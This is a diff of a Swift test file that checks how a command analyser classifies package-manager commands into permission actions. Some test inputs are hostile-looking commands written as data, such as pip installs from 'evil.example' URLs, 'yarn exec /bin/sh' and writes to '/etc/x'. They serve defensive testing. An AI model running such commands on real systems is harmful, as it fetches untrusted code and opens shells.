@@ -24,6 +24,7 @@ import Testing
         ("npx serve@latest out -p 3000", [npm, "project", "run serve out -p 3000"]),
         ("deno test", ["url https://jsr.io", "project"]),
         ("pip install -r requirements.txt", [pypi, "project", "read requirements.txt"]), ("pip freeze", []),
+        ("pip install -e .", [pypi, "project", "read ."]),
         ("pip list", []),
         ("pip hash src/package.whl", ["read src/package.whl"]), ("pip download x==1", [pypi, "project"]),
         ("poetry add requests", [pypi, "project"]), ("poetry show", []),
@@ -37,7 +38,10 @@ import Testing
         ("gem install rails", ["url https://rubygems.org", "project"]),
         ("bundle exec rspec", ["project", "run rspec"]),
         ("composer audit", ["url https://repo.packagist.org", "project"]),
-        ("dotnet add src/a.csproj package x", ["url https://api.nuget.org", "project", "read+write src/a.csproj"]),
+        (
+            "dotnet add src/a.csproj package x",
+            ["url https://api.nuget.org", "project", "read+write-tree src/a.csproj"]
+        ),
     ])
     func `installing asks the tool's own registry and runs the project's code`(line: String, actions: [String]) {
         #expect(Set(does(line)) == Set(actions))
@@ -58,7 +62,7 @@ import Testing
         ("npx $x", "opaque program"), ("npx github:a/b", "host github.com"),
         ("npx eslint -o /etc/x .", "run eslint -o /etc/x ."), ("npm --prefix /tmp/evil run x", "code-file /tmp/evil"),
         ("yarn --cwd /tmp/evil run x", "code-file /tmp/evil"), ("yarn exec /bin/sh", "run /bin/sh"),
-        ("pnpm exec sh", "run sh"), ("npm run x -- --out /etc/x", "read+write /etc/x"),
+        ("pnpm exec sh", "run sh"), ("npm run x -- --out /etc/x", "read+write-tree /etc/x"),
         ("pip install git+https://evil.example/x.git", "url https://evil.example/x.git"),
         ("pip install 'x @ https://evil.example/x.whl'", "url https://evil.example/x.whl"),
         ("pip install /tmp/evil", "code-file /tmp/evil"), ("pip install -e /tmp/evil", "code-file /tmp/evil"),
